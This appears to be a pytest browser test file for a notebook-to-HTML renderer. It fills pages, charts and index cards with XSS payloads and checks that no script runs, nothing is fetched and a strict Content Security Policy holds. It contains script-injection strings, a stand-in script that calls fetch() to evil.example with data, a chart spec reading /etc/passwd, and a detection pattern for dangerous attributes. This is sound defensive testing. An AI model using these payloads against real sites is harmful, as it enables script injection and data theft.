"""Attacks in every place of a page: nothing runs, nothing is fetched, nothing is said."""

import re
from collections.abc import Iterator
from dataclasses import replace
from itertools import islice
from pathlib import Path
from typing import Any

import pytest
from nbformat.v4 import new_markdown_cell, new_notebook, new_output

from assay.core.errors import RenderError
from assay.workbench.index import index_page
from assay.workbench.render import Page, render
from assay.workbench.render.embedded import Embedded
from assay.workbench.render.html import HtmlWriter
from assay.workbench.render.publication import prepare
from browser.chromium import Open, Shown
from render.attacks import PAYLOADS
from render.concierge_page import (
    DETAILS,
    NOTE,
    TABLE,
    VEGALITE,
    brief,
    cell,
    page,
    plain_page,
    section,
    shows,
)
from workbench.index_cards import BRIEF, a_card

pytestmark = pytest.mark.browser

TRAPPED = """() => { window.ran = []; for (const name of ['alert', 'confirm', 'prompt', 'open', 'fetch'])
  window[name] = (x) => { window.ran.push(name); }; }"""
ACTING = """() => [...document.querySelectorAll('*')].flatMap((e) => [
  ...(['SCRIPT', 'IFRAME', 'OBJECT', 'EMBED', 'FORM', 'BASE', 'META', 'LINK', 'STYLE', 'FOREIGNOBJECT']
    .includes(e.tagName.toUpperCase()) && document.body.contains(e) && !e.matches('body > script, .chart > script, form.vega-bindings, form[role=search]')
    ? [e.tagName] : []),
  ...[...e.attributes].filter((a) => /^on/i.test(a.name)
    || (/(href|src|action|data|srcdoc)$/i.test(a.name) && /^\\s*(javascript|vbscript|data:text|https?:\\/\\/evil)/i.test(a.value))
    || (a.name === 'style' && /url|expression/.test(a.value))).map((a) => `${e.tagName} ${a.name}=${a.value}`),
])"""


def outputs(text: str) -> Iterator[Any]:
    """The text as an output of every kind that carries text."""
    svg = f"<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'>{text}<rect width='5' height='5'/></svg>"
    table = f"<table><caption>{text}</caption><thead><tr><th>{text}</th></tr></thead><tr><td>{text}</td></tr></table>"
    for data in (
        {"text/html": text},
        {"text/html": f"<p>{text} words</p>"},
        {"text/html": table},
        {"image/svg+xml": svg},
        {"text/html": svg},
        {"text/markdown": text},
        {"text/markdown": f"words {text}"},
        {"text/latex": text},
        {"text/plain": text},
        {"application/javascript": "alert(1)", "text/plain": text},
    ):
        yield new_output("display_data", data, metadata={"assay": {"alt": text, "caption": text}})
    yield new_output("stream", name="stdout", text=text)
    yield new_output("stream", name="stderr", text=text)


def taken(cells: list[Any]) -> list[Any]:
    """Those cells that are not refused; a refusal is an answer, too."""
    kept, empty = [], plain_page()
    for each in cells:
        try:
            prepare(replace(empty, notebook=new_notebook(cells=[each])), HtmlWriter(), "html")
        except RenderError:
            continue
        kept.append(each)
    return kept


def everywhere() -> Page:
    rows = [{"name": text, "n": i} for i, text in enumerate(PAYLOADS)]
    spec = {
        "title": {"text": PAYLOADS[0], "subtitle": list(PAYLOADS[:3])},
        "data": {"values": rows},
        "mark": {"type": "bar", "tooltip": {"content": "data"}},
        "encoding": {
            "x": {"field": "n", "type": "quantitative", "title": PAYLOADS[16]},
            "y": {"field": "name", "type": "nominal"},
        },
        "usermeta": {
            "embedOptions": {"actions": True, "loader": {"baseURL": "http://evil.example"}}
        },
    }
    table = {
        "caption": PAYLOADS[0],
        "columns": [{"label": text} for text in PAYLOADS[:4]],
        "rows": [
            [text, {"text": text, "mark": text, "tone": "good"}, text, text] for text in PAYLOADS
        ],
    }
    details = {
        "summary": PAYLOADS[16],
        "id": '"><script>alert(1)</script>',
        "blocks": [{"p": text} for text in PAYLOADS] + [{"dl": [[t, t] for t in PAYLOADS]}],
    }
    cells = [
        cell(
            section(PAYLOADS[0], PAYLOADS[16], PAYLOADS[37]),
            new_output("display_data", {VEGALITE: spec}, metadata={"assay": {"alt": PAYLOADS[16]}}),
        ),
        cell(shows(TABLE, table), shows(DETAILS, details)),
        *[cell(shows(NOTE, {"text": text}), section(text, text, text)) for text in PAYLOADS[:30]],
        *taken([new_markdown_cell(f"Words.\n\n{text}") for text in PAYLOADS]),
        *taken([cell(*islice(outputs(text), i % 3, None, 3)) for i, text in enumerate(PAYLOADS)]),
    ]
    told = brief(title=PAYLOADS[0], subtitle=PAYLOADS[16], subject=PAYLOADS[36], state=PAYLOADS[22])
    told["decision"]["facts"] = [{"label": text, "value": text} for text in PAYLOADS]
    return page(
        notebook=new_notebook(cells=cells),
        result={"brief": told},
        history=(),
        report=PAYLOADS[0],
        set_name=PAYLOADS[35],
        manifest={
            "parameters": {text: text for text in PAYLOADS},
            "inputs": [{"name": text, "path": text, "sha256": text} for text in PAYLOADS],
            "packages": {text: text for text in PAYLOADS},
            "command": PAYLOADS[0],
        },
    )


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("attacked") / "index.html"
    path.write_bytes(Embedded().html(prepare(everywhere(), HtmlWriter(), "html")))
    return path


def assert_harmless(shown: Shown) -> None:
    shown.page.evaluate(
        "() => document.querySelectorAll('details').forEach((d) => { d.open = true; })"
    )
    shown.page.wait_for_timeout(300)
    assert shown.page.evaluate("() => window.ran") == []
    assert shown.page.evaluate(ACTING) == []
    outside = [address for address in shown.requests if not address.startswith("file:")]
    assert outside == []
    assert [said for said in shown.said if "net::ERR_FAILED" not in said] == []


def test_there_are_enough_of_them() -> None:
    assert len(set(PAYLOADS)) >= 90


def test_nothing_runs_and_nothing_is_fetched(show: Open, attacked: Path) -> None:
    shown = show(attacked, trap=TRAPPED)
    shown.charts_are_drawn()
    assert shown.page.locator(".chart.drawn").count() == 1
    assert_harmless(shown)


def test_the_policy_allows_two_scripts_one_style_and_nothing_else(attacked: Path) -> None:
    text = attacked.read_text(encoding="utf-8")
    policy = re.search(r'http-equiv="Content-Security-Policy" content="([^"]+)"', text)[1]
    rules = dict(rule.strip().split(" ", 1) for rule in policy.split(";"))
    assert rules.keys() == {
        "default-src", "script-src", "style-src", "img-src", "base-uri", "form-action",
    }  # fmt: skip
    assert {rules[name] for name in ("default-src", "base-uri", "form-action")} == {"'none'"}
    assert rules["img-src"] == "data:"
    assert re.fullmatch(r"'sha256-[\w+/=]+' 'sha256-[\w+/=]+'", rules["script-src"])
    assert re.fullmatch(r"'sha256-[\w+/=]+'", rules["style-src"])


def test_the_index_shows_attacks_as_text(show: Open, tmp_path: Path) -> None:
    cards = [
        replace(
            a_card(f"r{i}", brief=BRIEF | {"title": text, "subject": text, "subtitle": text}),
            failure=text,
        )
        for i, text in enumerate(PAYLOADS)
    ]
    path = tmp_path / "index.html"
    path.write_text(index_page(PAYLOADS[0], cards), encoding="utf-8")
    assert_harmless(show(path, trap=TRAPPED))


DRAWN = """<div id="plot-1" class="plot"></div><script>
const made = document.createElement('p'); made.textContent = 'drawn by a script';
document.getElementById('plot-1').append(made);
fetch('http://evil.example/?data=1').catch(() => {});
new Image().src = 'http://evil.example/x.png';
</script>"""


@pytest.mark.parametrize("trusted", [True, False])
def test_only_a_trusted_notebook_keeps_its_scripts_and_even_that_reaches_nothing(
    show: Open, tmp_path: Path, *, trusted: bool
) -> None:
    made = plain_page(
        cell(new_output("display_data", {"text/html": f"<p>Words</p>{DRAWN}"})), trusted=trusted
    )
    path = tmp_path / "index.html"
    path.write_bytes(Embedded().html(prepare(made, HtmlWriter(), "html")))
    shown = show(path)
    assert shown.page.get_by_text("Words").count() == 1
    assert shown.page.get_by_text("drawn by a script", exact=True).count() == int(trusted)
    assert shown.requests == []
    assert all("Content Security Policy" in line or "violates" in line for line in shown.said)
    assert bool(shown.said) == trusted


def test_a_trusted_notebook_may_not_load_a_script(tmp_path: Path) -> None:
    source = "<div></div><script src='https://cdn.example/plot.js'></script>"
    made = plain_page(cell(new_output("display_data", {"text/html": source})), trusted=True)
    with pytest.raises(RenderError, match="cell 1: HTML output loads a script from 'https://cdn"):
        render(made, tmp_path, renderer="embedded")


@pytest.mark.parametrize(
    "change",
    [
        {"data": {"url": {"expr": "'http://evil.example'"}}},
        {"mark": {"type": "image", "url": {"expr": "datum.name"}}},
        {"mark": "image", "encoding": {"url": {"field": "name"}}},
        {
            "mark": "image",
            "encoding": {"url": {"condition": {"test": "true", "value": "//evil.example/x"}}},
        },
        {"transform": [{"lookup": "n", "from": {"data": {"url": "x.csv"}, "key": "n"}}]},
        {"layer": [{"mark": "rule", "data": {"url": "file:///etc/passwd"}}]},
        {"mark": "bar", "encoding": {"href": {"value": "javascript:alert(1)"}}},
    ],
)
def test_a_chart_that_would_fetch_is_refused_however_it_is_written(
    tmp_path: Path, change: dict[str, Any]
) -> None:
    spec = {
        "data": {"values": [{"name": "http://evil.example/x.png", "n": 1}]},
        "mark": "bar",
        **change,
    }
    output = new_output("display_data", {VEGALITE: spec})
    with pytest.raises(RenderError, match=r"cell 1: chart (reads from|cannot be drawn)"):
        render(plain_page(cell(output)), tmp_path, renderer="embedded")
